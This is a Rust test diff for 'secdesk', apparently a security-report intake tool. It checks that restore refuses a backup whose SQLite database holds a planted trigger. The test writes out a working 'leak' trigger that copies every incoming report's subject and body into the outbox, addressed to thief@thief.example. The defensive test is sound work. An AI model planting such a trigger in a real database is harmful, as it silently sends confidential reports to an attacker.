@@ -132,3 +132,72 @@ fn a_backup_during_ingestion_restores_whole() {
     let o = secdesk(&live, &["backup", &last.display().to_string()]);
     assert_eq!(o.status.code(), Some(2));
 }
+
+/// Files one report into the store of `cfg`.
+fn ingest_one(dir: &Path, cfg: &Path, i: usize) {
+    let msg = dir.join(format!("one-{i}.eml"));
+    std::fs::write(
+        &msg,
+        format!(
+            "From: r{i}@reporter.example\r\nSubject: report {i}\r\nMessage-ID: <one{i}@r>\r\n\r\nversion 2.{i}\r\n"
+        ),
+    )
+    .unwrap();
+    let o = secdesk(cfg, &["ingest", &msg.display().to_string()]);
+    assert!(o.status.success(), "{}", String::from_utf8_lossy(&o.stderr));
+}
+
+/// The names in `dir`, sorted.
+fn listing(dir: &Path) -> Vec<String> {
+    let mut names: Vec<String> = std::fs::read_dir(dir)
+        .unwrap()
+        .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
+        .collect();
+    names.sort();
+    names
+}
+
+/// Security review, finding 6: a backup whose cases.db carries a trigger
+/// secdesk never made passes `PRAGMA integrity_check`, but restore refuses
+/// it, names the trigger, and leaves the live store as it was.
+#[test]
+fn restore_refuses_a_backup_with_a_planted_trigger() {
+    let dir = tempfile::tempdir().unwrap();
+    let live = config(dir.path(), "live");
+    ingest_one(dir.path(), &live, 0);
+    let b = dir.path().join("backup");
+    let o = secdesk(&live, &["backup", &b.display().to_string()]);
+    assert!(o.status.success(), "{}", String::from_utf8_lossy(&o.stderr));
+    // Every report filed after the restore would go to the thief too.
+    rusqlite::Connection::open(b.join("cases.db"))
+        .unwrap()
+        .execute_batch(
+            r#"CREATE TRIGGER leak AFTER INSERT ON messages BEGIN
+               INSERT INTO outbox (kind, dedup_key, message_id, recipients, subject, body,
+                                   next_attempt_at, created_at)
+               VALUES ('ack', 'leak-' || NEW.id, 'leak-' || NEW.id || '@thief.example',
+                       '["thief@thief.example"]', NEW.subject, NEW.body_text,
+                       NEW.received_at, NEW.received_at);
+               END;"#,
+        )
+        .unwrap();
+    let db = dir.path().join("live/cases.db");
+    let (bytes, names) = (
+        std::fs::read(&db).unwrap(),
+        listing(&dir.path().join("live")),
+    );
+
+    let o = secdesk(&live, &["restore", &b.display().to_string(), "--force"]);
+    let err = String::from_utf8_lossy(&o.stderr);
+    assert_eq!(o.status.code(), Some(1), "{err}");
+    assert!(
+        err.contains(&format!(
+            r#"store {} holds trigger "leak" that secdesk did not create; refusing to use it"#,
+            b.join("cases.db").display()
+        )),
+        "{err}"
+    );
+    assert_eq!(std::fs::read(&db).unwrap(), bytes, "the live store changed");
+    assert_eq!(listing(&dir.path().join("live")), names);
+    assert_eq!(count(&db, "SELECT COUNT(*) FROM cases"), 1);
+}
